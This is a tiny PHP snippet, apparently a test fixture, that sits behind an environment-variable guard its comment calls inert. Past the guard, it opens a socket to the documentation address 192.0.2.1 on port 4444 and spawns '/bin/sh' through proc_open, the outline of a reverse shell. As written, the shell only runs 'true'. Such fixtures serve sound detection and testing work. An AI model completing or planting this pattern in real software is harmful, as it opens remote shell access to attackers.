<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
$s = fsockopen('192.0.2.1', 4444);
$p = proc_open('/bin/sh -c true', array(), $pipes);
